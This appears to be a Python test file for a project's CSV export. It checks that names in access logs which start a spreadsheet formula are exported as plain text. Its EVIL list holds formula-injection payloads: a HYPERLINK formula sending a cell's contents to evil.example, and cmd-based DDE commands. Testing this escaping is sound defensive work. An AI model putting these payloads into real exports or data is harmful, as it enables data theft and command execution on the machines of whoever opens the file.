"""What a spreadsheet opens is a text, whatever somebody is called."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from access.models import AccessLog
from policies.ids import uuid7
from policies.spreadsheet import FORMULA, MARK, as_csv, harmless
from tests.house import ROOT
from tests.security.conftest import few_or_many
from tests.test_admin import NOW

SOURCES = [path for folder in ("access", "policies", "realtime", "sensors", "smarthome")
           for path in (ROOT / folder).rglob("*.py")]  # fmt: skip
EVIL = [
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline="")))


@pytest.mark.parametrize("text", EVIL)
def test_a_cell_that_starts_a_formula_is_a_text(text):
    ((_, cell),) = cells("".join(as_csv(["a", "b"], [["x", text]])))[1:]

    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["", "Anna", "04:A3:2B", "2026-11-23T08:37:01+01:00", "a=b", "5"])
def test_any_other_cell_stays_as_it_is(text):
    assert harmless(text) == text


@few_or_many(50, 5000)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_no_text_becomes_a_formula_or_another_cell(row):
    text = "".join(as_csv(["a"], [row, ["end"]]))

    found = [cell for line in cells(text)[1:] for cell in line]

    assert found == [*map(harmless, row), "end"]
    assert not [cell for cell in found if cell.lstrip(" ").startswith(FORMULA)]


def test_a_long_table_comes_in_pieces():
    pieces = list(as_csv(["n"], ([str(n)] for n in range(1000))))

    assert len(pieces) == 7
    assert [int(n) for (n,) in cells("".join(pieces))[1:]] == list(range(1000))


def test_the_console_exports_evil_names_as_texts(console):
    for number, name in enumerate(EVIL):
        AccessLog.objects.create(
            log_id=uuid7(NOW), timestamp=NOW, device_id="front-door", device_name=name,
            card_uid=f"04:00:00:{number:02}", user_name=name, granted=True, reason="granted",
            rule=name, latency_ms=1,
        )  # fmt: skip

    answer = console("operator").get("/admin/access/accesslog/csv/")

    rows = cells(b"".join(answer.streaming_content).decode())[1:]
    assert len(rows) == len(EVIL)
    assert {row[3] for row in rows} == {f"'{name}" for name in EVIL}
    assert not [cell for row in rows for cell in row if cell.lstrip(" ").startswith(FORMULA)]


def test_tables_are_written_in_one_place():
    """A second one would have to know of formulas, too."""
    writers = [
        path.name
        for path in SOURCES
        if re.search(
            r"csv\.(w|DictW)riter|^\s*(from csv|import openpyxl|from import_export)",
            path.read_text(),
            re.M,
        )
    ]

    assert writers == ["spreadsheet.py"]
